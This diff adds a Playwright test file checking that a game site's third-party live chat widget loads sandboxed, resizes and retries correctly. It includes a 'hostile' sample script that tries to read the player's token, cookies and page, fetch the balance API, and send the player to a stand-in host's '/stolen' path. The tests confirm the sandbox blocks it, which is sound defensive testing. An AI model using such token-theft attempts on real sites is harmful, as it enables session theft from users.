@@ -1,0 +1,246 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join as joinPath } from 'node:path';
+import type { Page } from '@playwright/test';
+import { expect, test as base } from './fixtures.ts';
+import { join, signIn } from './player.ts';
+
+/** Stands for a third party: scripts by path, on a loopback origin of its own, and the paths that were asked for. */
+interface ThirdParty {
+  readonly url: string;
+  readonly scripts: Map<string, string>;
+  readonly asked: { readonly path: string; readonly at: number }[];
+}
+
+const file = (settings: object): string => {
+  const path = joinPath(mkdtempSync(joinPath(tmpdir(), 'farspin-chat-')), 'Settings.json');
+  writeFileSync(path, JSON.stringify(settings));
+  return path;
+};
+
+interface Fixtures {
+  readonly chat: object;
+  readonly panelPx: number;
+  readonly thirdParty: ThirdParty;
+}
+const test = base.extend<Fixtures>({
+  chat: [{ kind: 'tawk', startDelayMs: 1_500 }, { option: true }],
+  panelPx: [320, { option: true }],
+  // oxlint-disable-next-line no-empty-pattern -- playwright reads the names of what a fixture needs from here
+  thirdParty: async ({}, use) => {
+    const scripts = new Map<string, string>();
+    const asked: ThirdParty['asked'] = [];
+    const server: Server = createServer(({ url = '' }, response) => {
+      const path = url.split('?')[0] ?? '';
+      asked.push({ path, at: Date.now() });
+      const script = scripts.get(path);
+      response.writeHead(script === undefined ? 404 : 200, { 'Content-Type': 'text/javascript' }).end(script);
+    });
+    await new Promise<void>((resolve) => {
+      server.listen(0, '127.0.0.1', resolve);
+    });
+    const { port } = server.address() as AddressInfo;
+    await use({ url: `http://127.0.0.1:${port}`, scripts, asked });
+    server.close();
+  },
+  serveArgs: async ({ chat, panelPx, thirdParty }, use) => {
+    const addresses = { scriptUrl: `${thirdParty.url}/chat.js?license=77`, standbyUrl: `${thirdParty.url}/standby.js` };
+    await use(['--settings', file({ chat: { ...addresses, ...chat }, sizes: { chatPanelPx: panelPx } })]);
+  },
+});
+
+const panel = (page: Page) => page.getByTestId('chat');
+const frame = (page: Page) => page.frameLocator('iframe[title="Live chat"]');
+const writes = (text: string): string => `document.body.textContent = ${text};`;
+
+test('the chat comes after its delay, in its width, says what is unread, and stands beside the page', async ({
+  page,
+  thirdParty,
+}) => {
+  thirdParty.scripts.set(
+    '/chat.js',
+    `${writes("'tawk ' + typeof Tawk_API")} Tawk_API.maximize = () => ${writes("'at your service'")}
+     Tawk_API.onLoad(); Tawk_API.onUnreadCountChanged(3);`,
+  );
+  await page.goto('/login');
+  const before = Date.now();
+  await signIn(page);
+  const open = page.getByRole('button', { name: 'Open live chat: 3 new messages' });
+  await expect(open).toBeVisible();
+  await expect(panel(page)).toBeHidden();
+  expect((thirdParty.asked[0]?.at ?? 0) - before).toBeGreaterThanOrEqual(1_500);
+  await open.click();
+  await expect(panel(page)).toHaveAttribute('data-stage', 'ready');
+  await expect(frame(page).locator('body')).toHaveText('at your service');
+  expect((await panel(page).boundingBox())?.width).toBe(320);
+  const end = (await page.getByRole('banner').boundingBox()) ?? { x: 0, width: 0 };
+  expect(end.x + end.width).toBeLessThanOrEqual(1_280 - 320);
+  await panel(page).press('Escape');
+  await expect(panel(page)).toBeHidden();
+  await expect(page.getByRole('button', { name: 'Open live chat' })).toBeVisible();
+  await expect(page.getByRole('button', { name: 'Open live chat' })).toBeFocused();
+  // What one player has written is nothing for the next.
+  await page.evaluate(() => {
+    history.pushState(null, '', '/logout');
+    dispatchEvent(new PopStateEvent('popstate'));
+  });
+  await expect(page.getByLabel('Email/Username')).toBeVisible();
+  await expect(page.locator('iframe')).toHaveCount(0);
+});
+
+test.describe('with a livechat', () => {
+  test.use({ chat: { kind: 'livechat', startDelayMs: 0, standbyAfterMs: 300 }, panelPx: 370 });
+
+  test('a script that does not come has its standby after its time, and the licence of its address', async ({
+    page,
+    thirdParty,
+  }) => {
+    thirdParty.scripts.set('/standby.js', writes('JSON.stringify([__lc.license, LiveChatWidget._q.at(-1)[1]])'));
+    await page.goto('/login');
+    await signIn(page);
+    await page.getByRole('button', { name: 'Open live chat' }).click();
+    await expect(frame(page).locator('body')).toHaveText('[77,["maximize"]]');
+    expect((await panel(page).boundingBox())?.width).toBe(370);
+    const [first, second] = thirdParty.asked;
+    expect([first?.path, second?.path]).toEqual(['/chat.js', '/standby.js']);
+    expect((second?.at ?? 0) - (first?.at ?? 0)).toBeGreaterThanOrEqual(250);
+  });
+});
+
+test.describe('without a standby', () => {
+  test.use({ chat: { kind: 'livechat', startDelayMs: 0, standbyUrl: null } });
+
+  test('a chat that does not come at all says so, and can be tried again', async ({ page, thirdParty }) => {
+    await page.goto('/login');
+    await signIn(page);
+    await page.getByRole('button', { name: 'Open live chat' }).click();
+    await expect(panel(page).getByText('The chat could not be loaded.')).toBeVisible();
+    thirdParty.scripts.set('/chat.js', writes("'here now'"));
+    await panel(page).getByRole('button', { name: 'Try again' }).click();
+    await expect(frame(page).locator('body')).toHaveText('here now');
+  });
+});
+
+test.describe('with none', () => {
+  test.use({ chat: { kind: null } });
+
+  test('nothing of a chat is there, and nothing of it is asked for', async ({ page, thirdParty }) => {
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await page.goto('/login');
+    await signIn(page);
+    await expect(page.getByRole('button', { name: 'Ember Lynx' })).toBeVisible();
+    await page.waitForLoadState('networkidle');
+    expect(asked.filter((url) => /chat/.test(new URL(url).pathname))).toEqual([]);
+    expect(thirdParty.asked).toEqual([]);
+  });
+});
+
+/** Does what it can to get at the player, and tells its own server of each success. */
+const hostile = (thirdParty: string) => `
+  const found = [];
+  const attempt = (what, run) => { try { const got = run(); if (got) found.push(what + ': ' + got); } catch {} };
+  attempt('storage', () => parent.localStorage.getItem('farspin.token'));
+  attempt('document', () => parent.document.body.innerHTML);
+  attempt('own storage', () => Object.keys(Object.getPrototypeOf(window).localStorage ?? {}).join());
+  attempt('frame storage', () => {
+    const inner = document.body.appendChild(document.createElement('iframe'));
+    return inner.contentWindow.localStorage.length + 1;
+  });
+  attempt('cookies', () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document));
+  attempt('address', () => parent.location.href);
+  attempt('frame element', () => frameElement && frameElement.ownerDocument.body.innerHTML);
+  attempt('origin', () => (origin === 'null' ? '' : origin));
+  attempt('top', () => { top.location = '${thirdParty}/stolen'; return ''; });
+  attempt('parent', () => { parent.location.replace('${thirdParty}/stolen'); return ''; });
+  attempt('popup', () => open('${thirdParty}/stolen'));
+  attempt('eval', () => eval('"evaluated"'));
+  attempt('form', () => {
+    const form = document.body.appendChild(document.createElement('form'));
+    form.action = '${thirdParty}/stolen'; form.target = '_top'; form.submit();
+    return '';
+  });
+  const calls = ['/api/player/balance', '/Settings.json'].map((path) =>
+    fetch(document.URL.replace('/chat.html', path), { credentials: 'include' })
+      .then(async (answer) => found.push(path + ': ' + (await answer.text()))).catch(() => {}));
+  addEventListener('message', ({ data }) => found.push('message: ' + JSON.stringify(data)));
+  Promise.all(calls).then(() => { document.body.textContent = 'tried: ' + found.join('; '); });
+`;
+
+test.describe('with a hostile script', () => {
+  // The policy of its frame has much to say to it.
+  test.use({ borne: /content security policy|csp-violation: \S+ .* http:\/\/127\.0\.0\.1:\d+\/chat\.js$|Fetch API/i });
+
+  test('a hostile script finds no token, no page, no way out', async ({ page, serve, thirdParty }) => {
+    thirdParty.scripts.set('/chat.js', hostile(thirdParty.url));
+    await page.context().addCookies([{ name: 'secret', value: 'cookie', url: serve.url }]);
+    await page.goto('/login');
+    await signIn(page);
+    await page.getByRole('button', { name: 'Open live chat' }).click();
+    await expect(frame(page).locator('body')).toHaveText('tried: ');
+    expect(page.url()).toContain('/lobby');
+    expect(page.context().pages()).toHaveLength(1);
+    expect(thirdParty.asked.map(({ path }) => path)).toEqual(['/chat.js']);
+    expect(await page.evaluate(() => localStorage.getItem('farspin.token'))).not.toBeNull();
+  });
+});
+
+test('the page of the chat is nobody’s, also when it is opened by itself', async ({ page }) => {
+  await page.goto('/chat.html');
+  expect(await page.evaluate(() => origin)).toBe('null');
+  const storage = await page.evaluate(() => {
+    try {
+      return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage')?.get?.call(window) ?? 'none';
+    } catch {
+      return 'refused';
+    }
+  });
+  expect(storage).not.toBeNull();
+  expect(['none', 'refused']).toContain(storage);
+});
+
+test('a script that floods the page, or goes elsewhere, is taken away; the game goes on', async ({
+  page,
+  thirdParty,
+}) => {
+  thirdParty.scripts.set(
+    '/chat.js',
+    `setTimeout(() => setInterval(() => { for (let i = 0; i < 500; i += 1) {
+       parent.postMessage({ kind: 'unread', count: i }, '*'); Tawk_API.onUnreadCountChanged(i);
+     } }, 5), 3_000);`,
+  );
+  await page.goto('/login');
+  await signIn(page);
+  await join(page, 'Ember Lynx', 'Ember Lynx 1');
+  await page.getByRole('button', { name: 'Live chat' }).click();
+  await expect(panel(page).getByText('The chat disturbed the game and was closed.')).toBeVisible();
+  await expect(page.locator('iframe')).toHaveCount(0);
+  await page.getByRole('button', { name: 'Bet +' }).click();
+  await expect(page.getByTestId('meter-bet')).toHaveAttribute('data-value', '1000');
+
+  thirdParty.scripts.set('/chat.js', "location.href = '/login';");
+  await panel(page).getByRole('button', { name: 'Try again' }).click();
+  await expect(panel(page).getByText('The chat disturbed the game and was closed.')).toBeVisible();
+});
+
+test('on a phone the chat lies over the game, whose keys rest meanwhile', async ({ page, thirdParty }) => {
+  thirdParty.scripts.set('/chat.js', writes("'hello'"));
+  await page.setViewportSize({ width: 360, height: 740 });
+  await page.goto('/login');
+  await signIn(page);
+  await join(page, 'Ember Lynx', 'Ember Lynx 1');
+  await expect(page.getByRole('button', { name: 'Open live chat' })).toHaveCount(0);
+  await page.getByRole('button', { name: 'Picture, sound and visit' }).click();
+  await page.getByRole('dialog').getByRole('button', { name: 'Live chat' }).click();
+  await expect(frame(page).locator('body')).toHaveText('hello');
+  const bet = page.getByTestId('meter-bet');
+  const before = await bet.getAttribute('data-value');
+  await page.keyboard.press('ArrowUp');
+  await panel(page).getByRole('button', { name: 'Close' }).click();
+  await expect(panel(page)).toBeHidden();
+  expect(await bet.getAttribute('data-value')).toBe(before);
+  await page.keyboard.press('ArrowUp');
+  await expect(bet).not.toHaveAttribute('data-value', before ?? '');
+});
